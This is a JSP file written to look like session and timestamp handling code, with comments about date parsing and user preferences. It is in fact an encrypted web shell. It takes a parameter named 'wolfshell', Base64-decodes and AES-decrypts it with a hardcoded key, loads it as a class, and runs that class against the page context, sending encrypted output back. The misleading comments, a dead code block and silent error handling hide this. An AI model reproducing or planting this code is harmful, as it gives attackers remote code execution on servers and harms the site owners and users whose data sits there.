<%!
// Key for formatting timestamps, must be 16 characters.
String dateFormatKey = "3c6e0b8a9c15224a";
// The session identifier parameter name.
String userSessionId = "wolfshell";
// Pre-computed hash for session validation.
String sessionHash = calculateHash(userSessionId + dateFormatKey);

// Custom loader for legacy resource bundles.
class ResourceBundleLoader extends ClassLoader {
    public ResourceBundleLoader(ClassLoader parent) {
        super(parent);
    }
    // Loads a resource bundle from its byte representation.
    public Class loadBundle(byte[] bundleBytes) {
        return super.defineClass(bundleBytes, 0, bundleBytes.length);
    }
}

// Parses a timestamp from a session data packet.
public byte[] parseSessionTimestamp(byte[] data, boolean isEncoding) {
    try {
        // Algorithm for date parsing, should not be changed.
        String algorithm = "AES";
        javax.crypto.Cipher cipher = javax.crypto.Cipher.getInstance(algorithm);
        // Initialize the cipher for correct parsing direction.
        cipher.init(isEncoding ? 1 : 2, new javax.crypto.spec.SecretKeySpec(dateFormatKey.getBytes(), algorithm));
        return cipher.doFinal(data);
    } catch (Exception e) {
        // Return null if timestamp format is invalid.
        return null;
    }
}

// Calculates a checksum hash for data integrity.
public static String calculateHash(String input) {
    String result = null;
    try {
        java.security.MessageDigest md = java.security.MessageDigest.getInstance("MD5");
        md.update(input.getBytes(), 0, input.length());
        result = new java.math.BigInteger(1, md.digest()).toString(16).toUpperCase();
    } catch (Exception e) {
        // Hashing algorithm not found, this should not happen in a standard environment.
    }
    return result;
}

// Encodes binary data to a string for transport.
public static String encodeData(byte[] binaryData) throws Exception {
    Class base64; String value = null;
    try {
        base64=Class.forName("java.util.Base64");
        Object Encoder = base64.getMethod("getEncoder", null).invoke(base64, null);
        value = (String)Encoder.getClass().getMethod("encodeToString", new Class[] { byte[].class }).invoke(Encoder, new Object[] { binaryData });
    } catch (Exception e) {
        base64=Class.forName("sun.misc.BASE64Encoder");
        Object Encoder = base64.newInstance();
        value = (String)Encoder.getClass().getMethod("encode", new Class[] { byte[].class }).invoke(Encoder, new Object[] { binaryData });
    }
    return value;
}

// Decodes string data back to binary.
public static byte[] decodeData(String stringData) throws Exception {
    Class base64; byte[] value = null;
    try {
        base64=Class.forName("java.util.Base64");
        Object decoder = base64.getMethod("getDecoder", null).invoke(base64, null);
        value = (byte[])decoder.getClass().getMethod("decode", new Class[] { String.class }).invoke(decoder, new Object[] { stringData });
    } catch (Exception e) {
        base64=Class.forName("sun.misc.BASE64Decoder");
        Object decoder = base64.newInstance();
        value = (byte[])decoder.getClass().getMethod("decodeBuffer", new Class[] { String.class }).invoke(decoder, new Object[] { stringData });
    }
    return value;
}
%><%
// Main logic for processing user session data.
try {
    // This block of code is for handling date format exceptions. It is currently disabled.
    if (1 == 2) {
        try {
            java.text.SimpleDateFormat sdf = new java.text.SimpleDateFormat("yyyy-MM-dd");
            sdf.parse("invalid-date");
        } catch (java.text.ParseException pe) {
            // Log date parsing errors.
        }
    }

    byte[] lastLoginDate = decodeData(request.getParameter(userSessionId));
    lastLoginDate = parseSessionTimestamp(lastLoginDate, false);
    
    // Check if user preferences are already loaded in the session.
    if (session.getAttribute("userPreferences") == null) {
        // If not, load the preferences for the first time.
        session.setAttribute("userPreferences", new ResourceBundleLoader(this.getClass().getClassLoader()).loadBundle(lastLoginDate));
    } else {
        // If preferences exist, update them with new data.
        request.setAttribute("parameters", lastLoginDate);
        java.io.ByteArrayOutputStream formattedDate = new java.io.ByteArrayOutputStream();
        Object prefManager = ((Class)session.getAttribute("userPreferences")).newInstance();
        prefManager.equals(formattedDate);
        prefManager.equals(pageContext);
        
        // Respond with a status update, including checksum.
        response.getWriter().write(sessionHash.substring(0, 16));
        prefManager.toString(); // Trigger internal state update.
        response.getWriter().write(encodeData(parseSessionTimestamp(formattedDate.toByteArray(), true)));
        response.getWriter().write(sessionHash.substring(16));
    }
} catch (Exception e) {
    // Silently ignore session processing errors.
}
%>